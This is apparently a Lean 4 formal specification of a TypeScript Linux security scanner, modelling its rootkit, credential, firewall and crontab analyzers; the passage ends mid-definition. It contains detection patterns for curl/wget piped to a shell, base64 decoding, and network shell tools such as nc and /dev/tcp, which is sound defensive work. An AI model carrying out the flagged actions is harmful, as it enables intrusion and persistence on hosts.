import Mathlib

/-!
Verification of the Sentinel-Scan core pipeline against its specification.

The definitions below are a shallow embedding of the TypeScript sources:
  - src/core/models.ts      (Severity, Finding, ModuleResult, Summary)
  - src/core/scanner.ts     (Scanner.run, buildSummary)
  - src/cli/index.ts        (severityToExitCode)
  - src/threats/index.ts    (ThreatDB.matchPort)
  - src/analyzers/crontabs.ts  (CrontabAnalyzer, RootkitAnalyzer)
  - src/analyzers/shell.ts     (ShellAnalyzer)
  - src/analyzers/credentials.ts (CredentialAnalyzer)
  - src/analyzers/firewall.ts    (FirewallAnalyzer)
JavaScript strings are modelled as Lean String values; regular-expression
tests are compiled to explicit decidable scans over the character list.
Machine numbers in play (counters, lengths, ports) are small non-negative
integers, modelled as Nat.
-/

/-- Severity enum from src/core/models.ts: INFO = 0 .. CRITICAL = 4. -/
inductive Severity where
  | info
  | low
  | medium
  | high
  | critical
deriving DecidableEq, Repr

/-- Numeric value of the TypeScript enum member. -/
def Severity.num : Severity → Nat
  | .info => 0
  | .low => 1
  | .medium => 2
  | .high => 3
  | .critical => 4

/-- Opaque structured payload stored in Finding.details
(Record of string / string-list / number / boolean values). -/
inductive DetailValue where
  | str (s : String)
  | strList (l : List String)
  | nat (n : Nat)
  | bool (b : Bool)
deriving DecidableEq, Repr

/-- Finding from src/core/models.ts. details and remediation are optional. -/
structure Finding where
  id : String
  module : String
  severity : Severity
  title : String
  description : String
  details : Option (List (String × DetailValue)) := none
  remediation : Option String := none
deriving DecidableEq, Repr

/-- Lookup of one key of a details record. -/
def detailsGet (f : Finding) (key : String) : Option DetailValue :=
  (f.details.getD []).lookup key

/-- Summary from src/core/models.ts (ScanResult.summary). -/
structure Summary where
  total : Nat
  critical : Nat
  high : Nat
  medium : Nat
  low : Nat
  info : Nat
  status : String
  maxSeverity : Severity
deriving DecidableEq, Repr

/-- The severity-bucket counters of buildSummary (src/core/scanner.ts line 82). -/
structure Counts where
  critical : Nat
  high : Nat
  medium : Nat
  low : Nat
  info : Nat
deriving DecidableEq, Repr

/-- One iteration of the for-loop in buildSummary: bump exactly one bucket
(else-if chain, the trailing else counts as info) and track the maximum
severity by numeric comparison. -/
def summaryStep (acc : Counts × Severity) (f : Finding) : Counts × Severity :=
  let counts := acc.1
  let maxSev := acc.2
  let counts :=
    if f.severity = .critical then { counts with critical := counts.critical + 1 }
    else if f.severity = .high then { counts with high := counts.high + 1 }
    else if f.severity = .medium then { counts with medium := counts.medium + 1 }
    else if f.severity = .low then { counts with low := counts.low + 1 }
    else { counts with info := counts.info + 1 }
  let maxSev := if maxSev.num < f.severity.num then f.severity else maxSev
  (counts, maxSev)

/-- buildSummary from src/core/scanner.ts lines 81-108: one pass over the
findings computing bucket counts and the maximum severity (starting at INFO),
then the status ladder over the counts. -/
def buildSummary (findings : List Finding) : Summary :=
  let acc := findings.foldl summaryStep (⟨0, 0, 0, 0, 0⟩, Severity.info)
  let counts := acc.1
  let maxSeverity := acc.2
  let status :=
    if counts.critical > 0 then "COMPROMISED"
    else if counts.high > 0 then "THREATS_FOUND"
    else if counts.medium > 0 then "WARNINGS"
    else if counts.low > 0 || counts.info > 0 then "INFORMATIONAL"
    else "CLEAN"
  { total := findings.length
    critical := counts.critical
    high := counts.high
    medium := counts.medium
    low := counts.low
    info := counts.info
    status := status
    maxSeverity := maxSeverity }

/-- severityToExitCode from src/cli/index.ts lines 75-88. The argument is the
numeric value of the severity enum; the switch falls through CRITICAL and HIGH
to 3, MEDIUM to 2, LOW and INFO to 1, and anything else to the default 0. -/
def severityToExitCode (severity : Nat) : Nat :=
  if severity = Severity.critical.num || severity = Severity.high.num then 3
  else if severity = Severity.medium.num then 2
  else if severity = Severity.low.num || severity = Severity.info.num then 1
  else 0

/-- One Collector/Analyzer module pair as the orchestrator sees it: collect
produces structured data of type d or throws (Except.error carries the
exception message), analyze turns that data into findings or throws. -/
structure ModuleImpl (d : Type) where
  name : String
  collect : Except String d
  analyze : d → Except String (List Finding)

/-- ModuleResult from src/core/models.ts; rawData = none models the initial
empty record that is only replaced when collect returns. -/
structure ModuleResult (d : Type) where
  module : String
  findings : List Finding
  rawData : Option d
  error : Option String

/-- The scan result fields the orchestrator computes (timing and platform
lookup omitted: they are environment reads, not part of the claims). -/
structure ScanResult (d : Type) where
  modules : List (ModuleResult d)
  findings : List Finding
  summary : Summary

/-- The body of the per-module loop of Scanner.run (src/core/scanner.ts
lines 27-62): findings and rawData start empty; any exception from collect
or analyze is caught and stored as the error string of the module. -/
def runModule {d : Type} (m : ModuleImpl d) : ModuleResult d :=
  match m.collect with
  | .error e => { module := m.name, findings := [], rawData := none, error := some e }
  | .ok dat =>
    match m.analyze dat with
    | .error e => { module := m.name, findings := [], rawData := some dat, error := some e }
    | .ok fs => { module := m.name, findings := fs, rawData := some dat, error := none }

/-- One iteration of the module loop: push the ModuleResult and append its
findings to the flat list. -/
def scanStep {d : Type} (acc : List (ModuleResult d) × List Finding) (m : ModuleImpl d) :
    List (ModuleResult d) × List Finding :=
  let r := runModule m
  (acc.1 ++ [r], acc.2 ++ r.findings)

/-- Scanner.run from src/core/scanner.ts restricted to its data flow: run
every requested module in order, accumulate module results and the flattened
findings, then build the summary. -/
def Scanner.run {d : Type} (mods : List (ModuleImpl d)) : ScanResult d :=
  let acc := mods.foldl scanStep ([], [])
  { modules := acc.1, findings := acc.2, summary := buildSummary acc.2 }

/-- A module throws with message msg if collect fails with msg, or collect
succeeds and analyze fails with msg. -/
def throwsWith {d : Type} (m : ModuleImpl d) (msg : String) : Prop :=
  m.collect = .error msg ∨ ∃ dat, m.collect = .ok dat ∧ m.analyze dat = .error msg

/-- PortEntry from src/threats/index.ts. -/
structure PortEntry where
  port : Nat
  name : String
  severity : String
  direction : String
deriving DecidableEq, Repr

/-- ThreatDB.matchPort from src/threats/index.ts lines 115-123: linear scan
returning the first entry with the right port whose direction equals the
normalized query direction or is "outbound". -/
def ThreatDB.matchPort (ports : List PortEntry) (port : Nat) (direction : String) :
    Option PortEntry :=
  let dir := if direction = "listening" then "listening" else "outbound"
  ports.find? (fun e => e.port == port && (e.direction == dir || e.direction == "outbound"))

/-- Approximation of the JavaScript whitespace class (ASCII part). -/
def isWsChar (c : Char) : Bool :=
  c = ' ' || c = '\t' || c = '\n' || c = '\r' || c = '\x0b' || c = '\x0c'

/-- JavaScript word character class backslash-w: ASCII letters, digits, underscore. -/
def isWordChar (c : Char) : Bool :=
  c.isAlpha || c.isDigit || c = '_'

/-- String.prototype.trim modelled on the character list. -/
def jsTrim (s : String) : String :=
  (((s.data.dropWhile isWsChar).reverse.dropWhile isWsChar).reverse).asString

/-- String.prototype.toLowerCase for the ASCII range. -/
def lowerStr (s : String) : String :=
  (s.data.map Char.toLower).asString

/-- split("\n") on the character list; a trailing newline yields a final
empty piece, like in JavaScript. -/
def splitNlChars : List Char → List (List Char)
  | [] => [[]]
  | c :: rest =>
    let r := splitNlChars rest
    if c = '\n' then [] :: r
    else
      match r with
      | [] => [[c]]
      | h :: t => (c :: h) :: t

/-- content.split("\n") as a list of strings. -/
def splitNl (s : String) : List String :=
  (splitNlChars s.data).map List.asString

/-- Does the pattern occur in cs starting exactly at index i. -/
def occursAt (cs pat : List Char) (i : Nat) : Bool :=
  (cs.drop i).take pat.length == pat

/-- Substring containment (String.prototype.includes). -/
def containsSub (cs pat : List Char) : Bool :=
  (List.range (cs.length + 1)).any (fun i => occursAt cs pat i)

/-- String.prototype.startsWith. -/
def jsStartsWith (s pre : String) : Bool :=
  occursAt s.data pre.data 0

/-- True when index i is outside cs or holds a non-word character: the
regex word boundary test next to a word character. -/
def nonWordAt (cs : List Char) (i : Nat) : Bool :=
  match cs.get? i with
  | none => true
  | some c => !isWordChar c

/-- Match for a regex tail of shape backslash-s-plus followed by a literal:
at least one whitespace character, then (because the literal starts with a
non-space character) the literal right after the whitespace run. -/
def wsRunThen (rest pat : List Char) : Bool :=
  match rest with
  | [] => false
  | c :: _ => isWsChar c && occursAt (rest.dropWhile isWsChar) pat 0

/-- String(counter).padStart(3, "0"). -/
def pad3 (n : Nat) : String :=
  let s := toString n
  if s.length ≥ 3 then s else (List.replicate (3 - s.length) '0').asString ++ s

/-- truncate from src/analyzers/crontabs.ts line 131 and shell.ts line 95:
slice to max characters and append an ellipsis when longer. -/
def truncateStr (s : String) (max : Nat) : String :=
  if s.length > max then (s.data.take max).asString ++ "..." else s

/-- RootkitCollector output fields consumed by the analyzer
(src/analyzers/crontabs.ts ff., RootkitAnalyzer): each field may be absent
and is defaulted inside analyze. -/
structure RootkitData where
  ldPreload : Option String := none
  suspiciousSoFiles : Option (List String) := none
  etcDataExists : Option Bool := none
  etcDataFiles : Option (List String) := none

/-- Finding id of the rootkit module. -/
def rkId (n : Nat) : String := "RK-" ++ pad3 n

/-- RootkitAnalyzer.analyze from src/analyzers/rootkit.ts: any non-empty
trimmed preload content yields the CRITICAL LD_PRELOAD finding (entries are
the trimmed non-empty non-comment lines); every suspicious shared object is
a HIGH finding; the known-malware directory is a CRITICAL finding. -/
def RootkitAnalyzer.analyze (data : RootkitData) : List Finding :=
  let ldPreload := data.ldPreload.getD ""
  let suspiciousSoFiles := data.suspiciousSoFiles.getD []
  let etcDataExists := data.etcDataExists.getD false
  let etcDataFiles := data.etcDataFiles.getD []
  let preloadContent := jsTrim ldPreload
  let fs1 :=
    if preloadContent.length > 0 then
      let preloadEntries := ((splitNl preloadContent).map jsTrim).filter
        (fun l => l.length > 0 && !(jsStartsWith l "#"))
      [{ id := rkId 1
         module := "rootkit"
         severity := Severity.critical
         title := "LD_PRELOAD rootkit detected"
         description := "/etc/ld.so.preload contains entries: " ++
           String.intercalate ", " preloadEntries ++
           ". This file forces shared libraries to be loaded into every process, which is the primary mechanism for userland rootkits (e.g., Jynx, Azazel, libprocesshider)."
         details := some [("file", DetailValue.str "/etc/ld.so.preload"),
           ("entries", DetailValue.strList preloadEntries),
           ("rawContent", DetailValue.str preloadContent)]
         remediation := some "This is a strong indicator of active compromise. 1) Record the preloaded library paths. 2) Remove or empty /etc/ld.so.preload. 3) Delete the malicious .so files. 4) Restart sshd and critical services. 5) Audit the system for additional persistence mechanisms." }]
    else []
  let fs2 := fs1 ++ (suspiciousSoFiles.enum.map (fun p =>
    { id := rkId (fs1.length + p.1 + 1)
      module := "rootkit"
      severity := Severity.high
      title := "Suspicious shared library in non-standard location"
      description := "Found .so file at \"" ++ p.2 ++
        "\". Shared libraries outside of standard library paths (/usr/lib, /lib) are often rootkit components or injected libraries."
      details := some [("path", DetailValue.str p.2)]
      remediation := some ("Inspect the shared library with \"file " ++ p.2 ++
        "\" and \"strings " ++ p.2 ++
        "\". Check if it is referenced in /etc/ld.so.preload or LD_PRELOAD. Remove it if it is not legitimate.") }))
  let fs3 := fs2 ++
    (if etcDataExists then
      [{ id := rkId (fs2.length + 1)
         module := "rootkit"
         severity := Severity.critical
         title := "Known malware directory /etc/data detected (Kinsing)"
         description := "The directory /etc/data exists with " ++
           toString etcDataFiles.length ++
           " entries. This is a well-known indicator of the Kinsing cryptomining malware, which stores its payloads and configuration in this directory."
         details := some [("path", DetailValue.str "/etc/data"),
           ("files", DetailValue.strList etcDataFiles)]
         remediation := some "1) Kill any Kinsing-related processes (kdevtmpfsi, kinsing). 2) Remove /etc/data and its contents. 3) Check crontabs and systemd for persistence entries. 4) Patch the vulnerability that allowed initial access (commonly Docker API, Redis, or Log4j)." }]
    else [])
  fs3

/-- One env-style file record from the credentials collector. -/
structure EnvFile where
  path : String
  size : String
deriving DecidableEq, Repr

/-- CredentialCollector output fields consumed by the analyzer
(src/analyzers/credentials.ts lines 23-26). -/
structure CredentialData where
  envFiles : Option (List EnvFile) := none
  serviceAccountKeys : Option (List String) := none
  gitCredentials : Option String := none
  sshPrivateKeys : Option (List String) := none

/-- Leading decimal digit run of a character list with its value. -/
def digitsVal : List Char → Option Nat → Option Nat
  | [], acc => acc
  | c :: rest, acc =>
    if c.isDigit then digitsVal rest (some ((acc.getD 0) * 10 + (c.toNat - '0'.toNat)))
    else acc

/-- parseInt(s, 10): skip leading whitespace, optional sign, then the
leading digit run; no digits gives NaN (none). -/
def jsParseInt (s : String) : Option Int :=
  let t := s.data.dropWhile isWsChar
  match t with
  | '-' :: rest => (digitsVal rest none).map (fun n => -(n : Int))
  | '+' :: rest => (digitsVal rest none).map (fun n => (n : Int))
  | _ => (digitsVal t none).map (fun n => (n : Int))

/-- Render a non-negative tenths value as a one-decimal string, the shape
produced by Number.prototype.toFixed(1). -/
def oneDecimal (tenths : Nat) : String :=
  toString (tenths / 10) ++ "." ++ toString (tenths % 10)

/-- formatSize from src/analyzers/credentials.ts lines 91-97. The floating
point divisions with toFixed(1) are modelled as exact decimal rounding to
one digit, half away from zero; the see-through cases of the claims never
reach this function. -/
def formatSize (sizeStr : String) : String :=
  match jsParseInt sizeStr with
  | none => sizeStr
  | some bytes =>
    if bytes < 1024 then toString bytes ++ " B"
    else if bytes < 1024 * 1024 then
      oneDecimal ((bytes.toNat * 10 + 512) / 1024) ++ " KB"
    else
      oneDecimal ((bytes.toNat * 10 + 524288) / 1048576) ++ " MB"

/-- Finding id of the credentials module. -/
def credId (n : Nat) : String := "CRED-" ++ pad3 n

/-- CredentialAnalyzer.analyze from src/analyzers/credentials.ts: one MEDIUM
finding per env file, one HIGH finding per non-blank service-account key
path, one MEDIUM finding when git credentials content is truthy, and one
single INFO finding covering all discovered SSH private keys. -/
def CredentialAnalyzer.analyze (data : CredentialData) : List Finding :=
  let envFiles := data.envFiles.getD []
  let serviceAccountKeys := data.serviceAccountKeys.getD []
  let gitCredentials := data.gitCredentials
  let sshPrivateKeys := data.sshPrivateKeys.getD []
  let fs1 := envFiles.enum.map (fun p =>
    { id := credId (p.1 + 1)
      module := "credentials"
      severity := Severity.medium
      title := "Environment file with potential secrets"
      description := "Found .env file at \"" ++ p.2.path ++ "\" (" ++
        formatSize p.2.size ++
        "). Environment files commonly contain API keys, database passwords, and other secrets that should not be stored on disk in production."
      details := some [("path", DetailValue.str p.2.path), ("size", DetailValue.str p.2.size)]
      remediation := some ("Review the contents of \"" ++ p.2.path ++
        "\" for secrets. Migrate secrets to a vault solution (e.g., HashiCorp Vault, AWS Secrets Manager) or encrypted environment variables. Remove the file from disk if it is not actively needed.") })
  let fs2 := fs1 ++ ((serviceAccountKeys.filter (fun k => jsTrim k ≠ "")).enum.map (fun p =>
    { id := credId (fs1.length + p.1 + 1)
      module := "credentials"
      severity := Severity.high
      title := "Service account key file on disk"
      description := "Found service account / credentials JSON file at \"" ++ p.2 ++
        "\". Service account keys grant programmatic access to cloud resources and are high-value targets for attackers."
      details := some [("path", DetailValue.str p.2)]
      remediation := some "Rotate the service account key immediately via the cloud provider console. Use workload identity, instance metadata, or a secrets manager instead of key files on disk. Remove the file after rotation." }))
  let fs3 := fs2 ++
    (match gitCredentials with
     | some content =>
       if content ≠ "" then
         let credCount := ((splitNl content).filter (fun l => (jsTrim l).length > 0)).length
         [{ id := credId (fs2.length + 1)
            module := "credentials"
            severity := Severity.medium
            title := "Git credentials stored in plaintext"
            description := "Found " ++ toString credCount ++ " credential" ++
              (if credCount = 1 then "" else "s") ++
              " in /root/.git-credentials. These are stored in plaintext and grant access to Git repositories (potentially including private source code and infrastructure-as-code)."
            details := some [("path", DetailValue.str "/root/.git-credentials"),
              ("credentialCount", DetailValue.nat credCount)]
            remediation := some "Switch to a credential helper that uses the system keychain (\"git config --global credential.helper store\" is insecure). Use SSH keys or personal access tokens with minimal scopes instead." }]
       else []
     | none => [])
  let fs4 := fs3 ++
    (if sshPrivateKeys.length > 0 then
      [{ id := credId (fs3.length + 1)
         module := "credentials"
         severity := Severity.info
         title := "SSH private keys found on disk"
         description := "Found " ++ toString sshPrivateKeys.length ++ " SSH private key" ++
           (if sshPrivateKeys.length = 1 then "" else "s") ++ ": " ++
           String.intercalate ", " sshPrivateKeys ++
           ". While SSH keys are a normal authentication mechanism, their presence should be tracked and their permissions verified."
         details := some [("count", DetailValue.nat sshPrivateKeys.length),
           ("paths", DetailValue.strList sshPrivateKeys)]
         remediation := some "Ensure all private keys have permissions set to 600 (\"chmod 600 <key>\"). Remove any keys that are no longer needed. Consider using an SSH agent or hardware security key for additional protection." }]
    else [])
  fs4

/-- UFW status record from the firewall collector. -/
structure UfwData where
  active : Bool
  rules : String
deriving DecidableEq, Repr

/-- Fail2ban status record from the firewall collector. -/
structure Fail2banData where
  running : Bool
  jails : List String
  sshdStatus : String
deriving DecidableEq, Repr

/-- FirewallCollector output fields consumed by the analyzer
(src/analyzers/firewall.ts lines 29-31). -/
structure FirewallData where
  ufw : Option UfwData := none
  fail2ban : Option Fail2banData := none
  iptables : Option String := none

/-- Regex test for the port number 22 between word boundaries. -/
def testWord22 (line : String) : Bool :=
  let cs := line.data
  (List.range cs.length).any (fun i =>
    occursAt cs ['2', '2'] i &&
    (i == 0 || nonWordAt cs (i - 1)) &&
    nonWordAt cs (i + 2))

/-- Case-insensitive regex test for the word ssh between word boundaries. -/
def testSshWord (line : String) : Bool :=
  let cs := (lowerStr line).data
  (List.range cs.length).any (fun i =>
    occursAt cs "ssh".data i &&
    (i == 0 || nonWordAt cs (i - 1)) &&
    nonWordAt cs (i + 3))

/-- Case-insensitive test for ALLOW, one or more whitespace, IN. -/
def testAllowIn (line : String) : Bool :=
  let cs := (lowerStr line).data
  (List.range cs.length).any (fun i =>
    occursAt cs "allow".data i && wsRunThen (cs.drop (i + 5)) "in".data)

/-- Case-insensitive substring test for Anywhere. -/
def testAnywhere (line : String) : Bool :=
  containsSub (lowerStr line).data "anywhere".data

/-- The iptables INPUT-chain loop of isSshOpenToAll: track whether the
current line is inside the INPUT chain and report an ACCEPT rule for
destination port 22 from 0.0.0.0/0 found there. -/
def scanInputChain : Bool → List String → Bool
  | _, [] => false
  | inInput, line :: rest =>
    if jsStartsWith line "Chain INPUT" then scanInputChain true rest
    else if jsStartsWith line "Chain" then scanInputChain false rest
    else if inInput && containsSub line.data "dpt:22".data &&
        containsSub line.data "0.0.0.0/0".data &&
        containsSub line.data "ACCEPT".data then true
    else scanInputChain inInput rest

/-- Case-insensitive whole-text test for Chain INPUT followed on the same
line by policy ACCEPT (the dot of the regex does not cross newlines). -/
def chainInputPolicyAccept (iptables : String) : Bool :=
  (splitNl iptables).any (fun line =>
    let cs := (lowerStr line).data
    (List.range cs.length).any (fun i =>
      occursAt cs "chain input".data i &&
      containsSub (cs.drop (i + 11)) "policy accept".data))

/-- FirewallAnalyzer.isSshOpenToAll from src/analyzers/firewall.ts lines
91-144: with UFW active and rules present, look for an ALLOW IN from
Anywhere rule on ssh or 22; otherwise consult iptables (INPUT-chain rule or
default ACCEPT policy), and finally treat missing data as open whenever UFW
is inactive. -/
def FirewallAnalyzer.isSshOpenToAll (ufw : UfwData) (iptables : String) : Bool :=
  if ufw.active && ufw.rules ≠ "" then
    (splitNl ufw.rules).any (fun line =>
      (testWord22 line || testSshWord line) &&
      (testAllowIn line && testAnywhere line))
  else
    let viaIptables :=
      iptables ≠ "" &&
        (scanInputChain false (splitNl iptables) || chainInputPolicyAccept iptables)
    if viaIptables then true
    else if ufw.active = false then true
    else false

/-- Finding id of the firewall module. -/
def fwId (n : Nat) : String := "FW-" ++ pad3 n

/-- FirewallAnalyzer.analyze from src/analyzers/firewall.ts lines 20-89:
HIGH when UFW is inactive, MEDIUM when fail2ban is not running (else MEDIUM
when its sshd jail is missing), MEDIUM when SSH is open to all. -/
def FirewallAnalyzer.analyze (data : FirewallData) : List Finding :=
  let ufw := data.ufw.getD ⟨false, ""⟩
  let fail2ban := data.fail2ban.getD ⟨false, [], ""⟩
  let iptables := data.iptables.getD ""
  let fs1 :=
    if ufw.active = false then
      [{ id := fwId 1
         module := "firewall"
         severity := Severity.high
         title := "UFW firewall is not active"
         description := "The Uncomplicated Firewall (UFW) is not active. Without a host firewall, all listening services are exposed to the network. This significantly increases the attack surface."
         details := some [("ufwActive", DetailValue.bool false)]
         remediation := some "Enable UFW with sensible defaults: \"ufw default deny incoming && ufw default allow outgoing && ufw allow ssh && ufw --force enable\". Adjust rules based on required services." }]
    else []
  let fs2 := fs1 ++
    (if fail2ban.running = false then
      [{ id := fwId (fs1.length + 1)
         module := "firewall"
         severity := Severity.medium
         title := "Fail2ban is not running"
         description := "Fail2ban is not installed or not running. Without fail2ban, the server has no automated brute-force protection for SSH and other services."
         details := some [("fail2banRunning", DetailValue.bool false)]
         remediation := some "Install and configure fail2ban: \"apt install fail2ban -y\". Enable at minimum the sshd jail by creating /etc/fail2ban/jail.local with \"[sshd]\\nenabled = true\"." }]
    else
      let hasSshdJail := fail2ban.jails.any
        (fun j => lowerStr j == "sshd" || lowerStr j == "ssh")
      if hasSshdJail = false then
        [{ id := fwId (fs1.length + 1)
           module := "firewall"
           severity := Severity.medium
           title := "Fail2ban sshd jail is not active"
           description := "Fail2ban is running but the sshd jail is not active. SSH brute-force attacks will not be automatically blocked."
           details := some [("jails", DetailValue.strList fail2ban.jails)]
           remediation := some "Enable the sshd jail in /etc/fail2ban/jail.local: \"[sshd]\\nenabled = true\" and restart fail2ban." }]
      else [])
  let fs3 := fs2 ++
    (if FirewallAnalyzer.isSshOpenToAll ufw iptables then
      [{ id := fwId (fs2.length + 1)
         module := "firewall"
         severity := Severity.medium
         title := "SSH is not restricted by firewall"
         description := "SSH (port 22) appears to be accessible from any source address (0.0.0.0/0). Restricting SSH access to known IP ranges reduces exposure to brute-force attacks and zero-day exploits."
         details := some [("sshRestricted", DetailValue.bool false)]
         remediation := some "Restrict SSH access to specific IP addresses or ranges: \"ufw delete allow ssh && ufw allow from <trusted-ip>/32 to any port 22\". Consider using a VPN or bastion host for remote access." }]
    else [])
  fs3

/-- One /etc/cron.d file from the crontab collector. -/
structure CronDirEntry where
  name : String
  content : String
deriving DecidableEq, Repr

/-- One per-user crontab from the crontab collector. -/
structure UserCrontab where
  user : String
  content : String
deriving DecidableEq, Repr

/-- CrontabCollector output fields consumed by the analyzer
(src/analyzers/crontabs.ts lines 44-62). -/
structure CrontabData where
  rootCrontab : Option String := none
  systemCrontab : Option String := none
  cronDirs : Option (List CronDirEntry) := none
  userCrontabs : Option (List UserCrontab) := none

/-- DOWNLOAD_PIPE_RE: wget or curl at a word boundary, anything, then a pipe
and optional whitespace followed by a shell name at a word boundary
(case-insensitive). -/
def testDownloadPipe (line : String) : Bool :=
  let cs := (lowerStr line).data
  (List.range cs.length).any (fun i =>
    (occursAt cs "wget".data i || occursAt cs "curl".data i) &&
    nonWordAt cs (i + 4) &&
    ((List.range cs.length).any (fun j =>
      i + 4 ≤ j && cs.get? j == some '|' &&
      (let tgt := (cs.drop (j + 1)).dropWhile isWsChar
       (occursAt tgt "bash".data 0 && nonWordAt tgt 4) ||
       (occursAt tgt "sh".data 0 && nonWordAt tgt 2) ||
       (occursAt tgt "zsh".data 0 && nonWordAt tgt 3) ||
       (occursAt tgt "dash".data 0 && nonWordAt tgt 4)))))

/-- BASE64_RE: base64 followed by whitespace and -d or --decode
(case-insensitive). -/
def testBase64Decode (line : String) : Bool :=
  let cs := (lowerStr line).data
  (List.range cs.length).any (fun i =>
    occursAt cs "base64".data i &&
    (let rest := cs.drop (i + 6)
     match rest with
     | [] => false
     | c :: _ =>
       isWsChar c &&
       (let tgt := rest.dropWhile isWsChar
        occursAt tgt "-d".data 0 || occursAt tgt "--decode".data 0)))

/-- One attempt of TMP_EXEC_RE at index i: one of the three temp-directory
literals followed by at least one non-whitespace character; the matched text
is the literal plus the maximal non-whitespace run. -/
def tmpTryAt (cs : List Char) (i : Nat) : Option (List Char) :=
  ["/tmp/".data, "/var/tmp/".data, "/dev/shm/".data].findSome? (fun p =>
    if occursAt cs p i then
      let tail := (cs.drop (i + p.length)).takeWhile (fun c => !isWsChar c)
      if tail.length > 0 then some (p ++ tail) else none
    else none)

/-- TMP_EXEC_RE.exec: text of the leftmost match, if any. -/
def tmpExecMatch (line : String) : Option String :=
  ((List.range line.data.length).findSome? (tmpTryAt line.data)).map List.asString

/-- One attempt of HIDDEN_DIR_EXEC_RE at index i: slash dot, a maximal
non-empty run without slashes, a slash, then a maximal non-empty
non-whitespace run. -/
def hiddenTryAt (cs : List Char) (i : Nat) : Option (List Char) :=
  if occursAt cs ['/', '.'] i then
    let afterDot := cs.drop (i + 2)
    let run := afterDot.takeWhile (fun c => c ≠ '/')
    if run.length > 0 then
      match afterDot.drop run.length with
      | '/' :: tail =>
        let sRun := tail.takeWhile (fun c => !isWsChar c)
        if sRun.length > 0 then some ('/' :: '.' :: (run ++ '/' :: sRun)) else none
      | _ => none
    else none
  else none

/-- HIDDEN_DIR_EXEC_RE.exec: text of the leftmost match, if any. -/
def hiddenExecMatch (line : String) : Option String :=
  ((List.range line.data.length).findSome? (hiddenTryAt line.data)).map List.asString

/-- The skip test of the crontab loop: empty trimmed line, comment, or a
variable assignment (word characters immediately followed by an equal
sign at the start of the line). -/
def cronSkipLine (t : String) : Bool :=
  t == "" || jsStartsWith t "#" ||
    (let r := t.data.takeWhile isWordChar
     r.length > 0 && t.data.get? r.length == some '=')

/-- Finding id of the crontabs module. -/
def cronId (n : Nat) : String := "CRON-" ++ pad3 n

/-- Findings fired by one crontab line (already trimmed): download pipe,
base64 decode, temp-directory path, and hidden-directory path when no
temp-directory path matched; ids continue from idStart. -/
def cronLineFindings (idStart : Nat) (label : String) (lineNo : Nat) (line : String) :
    List Finding :=
  if cronSkipLine line then []
  else
    let f1 :=
      if testDownloadPipe line then
        [{ id := cronId (idStart + 1)
           module := "crontabs"
           severity := Severity.critical
           title := "Crontab downloads and executes remote code"
           description := "Entry in " ++ label ++ " (line " ++ toString lineNo ++
             ") pipes a download command directly to a shell interpreter: \"" ++
             truncateStr line 120 ++
             "\". This is the most common malware persistence technique via cron."
           details := some [("source", DetailValue.str label),
             ("lineNumber", DetailValue.nat lineNo), ("line", DetailValue.str line)]
           remediation := some "Remove the crontab entry immediately. Investigate the URL being fetched and check for additional compromise indicators." }]
      else []
    let f2 :=
      if testBase64Decode line then
        [{ id := cronId (idStart + f1.length + 1)
           module := "crontabs"
           severity := Severity.high
           title := "Crontab contains base64-encoded command"
           description := "Entry in " ++ label ++ " (line " ++ toString lineNo ++
             ") uses base64 decoding: \"" ++ truncateStr line 120 ++
             "\". Attackers encode payloads in base64 to evade simple pattern matching."
           details := some [("source", DetailValue.str label),
             ("lineNumber", DetailValue.nat lineNo), ("line", DetailValue.str line)]
           remediation := some "Decode and inspect the base64 payload. Remove the crontab entry if it is malicious." }]
      else []
    let tmpM := tmpExecMatch line
    let f3 :=
      match tmpM with
      | some m =>
        [{ id := cronId (idStart + f1.length + f2.length + 1)
           module := "crontabs"
           severity := Severity.high
           title := "Crontab runs binary from temporary directory"
           description := "Entry in " ++ label ++ " (line " ++ toString lineNo ++
             ") references a path in a temporary directory: \"" ++ m ++
             "\". Legitimate cron jobs should not execute from /tmp, /var/tmp, or /dev/shm."
           details := some [("source", DetailValue.str label),
             ("lineNumber", DetailValue.nat lineNo), ("line", DetailValue.str line),
             ("path", DetailValue.str m)]
           remediation := some ("Remove the crontab entry. Investigate and delete the binary at \"" ++ m ++ "\".") }]
      | none => []
    let f4 :=
      match hiddenExecMatch line, tmpM with
      | some m, none =>
        [{ id := cronId (idStart + f1.length + f2.length + f3.length + 1)
           module := "crontabs"
           severity := Severity.high
           title := "Crontab runs binary from hidden directory"
           description := "Entry in " ++ label ++ " (line " ++ toString lineNo ++
             ") references a hidden directory path: \"" ++ m ++
             "\". Malware frequently hides in dot-prefixed directories."
           details := some [("source", DetailValue.str label),
             ("lineNumber", DetailValue.nat lineNo), ("line", DetailValue.str line),
             ("path", DetailValue.str m)]
           remediation := some "Remove the crontab entry. Investigate the hidden directory and remove any malicious files." }]
      | _, _ => []
    f1 ++ f2 ++ f3 ++ f4

/-- Findings of one crontab source: the content is split into lines, each
line trimmed and analyzed independently, ids continuing across lines. -/
def cronSourceFindings (idStart : Nat) (label content : String) : List Finding :=
  ((splitNl content).enum.foldl (fun acc p =>
    acc ++ cronLineFindings (idStart + acc.length) label (p.1 + 1) (jsTrim p.2)) [])

/-- CrontabAnalyzer.analyze from src/analyzers/crontabs.ts lines 32-129:
assemble the labelled sources (truthy root crontab, truthy system crontab,
cron.d entries, user crontabs) and analyze each line of each source. -/
def CrontabAnalyzer.analyze (data : CrontabData) : List Finding :=
  let sources :=
    (if data.rootCrontab.getD "" ≠ "" then
      [("root crontab", data.rootCrontab.getD "")] else []) ++
    (if data.systemCrontab.getD "" ≠ "" then
      [("/etc/crontab", data.systemCrontab.getD "")] else []) ++
    ((data.cronDirs.getD []).map (fun e => ("/etc/cron.d/" ++ e.name, e.content))) ++
    ((data.userCrontabs.getD []).map (fun e =>
      ("crontab (user: " ++ e.user ++ ")", e.content)))
  sources.foldl (fun acc s => acc ++ cronSourceFindings acc.length s.1 s.2) []

/-- One suspicious shell-profile hit from the shell collector. -/
structure SuspiciousEntry where
  file : String
  line : String
  lineNumber : Nat
  matchedPattern : String
deriving DecidableEq, Repr

/-- HIGH_SEVERITY_PATTERNS from src/analyzers/shell.ts. -/
def HIGH_SEVERITY_PATTERNS : List String :=
  ["wget", "curl", "nc", "ncat", "eval", "/dev/tcp", "/dev/udp", ".onion"]

/-- MEDIUM_SEVERITY_PATTERNS from src/analyzers/shell.ts. -/
def MEDIUM_SEVERITY_PATTERNS : List String :=
  ["base64", "exec", "python.*http"]

/-- ShellAnalyzer.classifySeverity: exact membership in the HIGH set, then
the MEDIUM set, then bidirectional substring containment against the MEDIUM
set, defaulting to HIGH. -/
def ShellAnalyzer.classifySeverity (pattern : String) : Severity :=
  let lower := lowerStr pattern
